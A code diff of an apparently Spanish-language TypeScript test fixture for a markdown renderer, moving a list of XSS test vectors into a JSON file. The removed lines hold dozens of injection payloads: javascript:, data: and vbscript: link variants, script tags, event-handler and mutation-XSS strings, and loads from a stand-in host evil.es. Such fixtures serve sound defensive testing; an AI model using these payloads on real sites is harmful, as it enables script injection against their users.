@@ -1,34 +1,10 @@
-/** Texts that try to run something, to leave the text or to stop the page; none may do more than be read. */
+import ataques from './ataques.json' with { type: 'json' };
 
-/** From OWASP's list for links, and our own. */
-const DESTINOS = [
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  ' javascript:alert(1)',
-  'java\tscript:alert(1)',
-  'java&#10;script:alert(1)',
-  '&#106;avascript:alert(1)',
-  '&#x6A&#x61&#x76&#x61script:alert(1)',
-  'javascript&colon;alert(1)',
-  '\u0001javascript:alert(1)',
-  'javascript://pmp.es/%0aalert(1)',
-  'vbscript:msgbox(1)',
-  'livescript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg onload=alert(1)>',
-  'data:image/png;base64,iVBORw0KGgo=',
-  'blob:https://pmp.es/1',
-  'file:///etc/passwd',
-  'filesystem:https://pmp.es/1',
-  'about:blank',
-  'view-source:https://pmp.es',
-  'intent://pmp.es#Intent;end',
-  'feed:javascript:alert(1)',
-  'jar:javascript:alert(1)!/',
-];
-
-export const ENLACES: string[] = DESTINOS.flatMap((destino) => [
+/**
+ * Texts that try to run something, to leave the text or to stop the page; none may do more than be read. What is in
+ * `ataques.json`, from OWASP's lists and our own, `npm run ataque` stores in the product and reads in a browser.
+ */
+export const ENLACES: string[] = ataques.destinos.flatMap((destino) => [
   `[pulsa](${destino})`,
   `[pulsa](<${destino}>)`,
   `[pulsa](${destino} "título")`,
@@ -39,48 +15,7 @@ export const ENLACES: string[] = DESTINOS.flatMap((destino) => [
   destino,
 ]);
 
-export const HTML: string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=https://evil.es/xss.js></SCRIPT>',
-  '<img src=x onerror=alert(1)>',
-  '<IMG SRC="javascript:alert(1)">',
-  '<img src=`javascript:alert(1)`>',
-  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
-  '<svg/onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<object data="javascript:alert(1)">',
-  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)>',
-  '<input autofocus onfocus=alert(1)>',
-  '<video><source onerror=alert(1)>',
-  '<form action="javascript:alert(1)"><button>x</button></form>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<link rel=stylesheet href="https://evil.es/x.css">',
-  '<base href="https://evil.es/">',
-  '<style>@import "https://evil.es/x.css";</style>',
-  '<div style="background:url(javascript:alert(1))">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?php echo "<script>alert(1)</script>" ?>',
-  '</p></div><script>alert(1)</script>',
-  '`<script>alert(1)</script>`',
-  '```"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
-  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '[<img src=x onerror=alert(1)>](https://pmp.es)',
-  '![" onerror="alert(1)](https://pmp.es/a.png" onerror="alert(1))',
-  '[a](https://pmp.es "\\" onclick=\\"alert(1)")',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '[x]: javascript:alert(1)\n[constructor][x] [__proto__][x]',
-  '\u202Egnp.exe\u202C <b onmouseover=alert(1)>x</b>',
-];
+export const HTML: string[] = ataques.html;
 
 const CARACTERES = 20_000;
 const repeat = (part: string): string =>
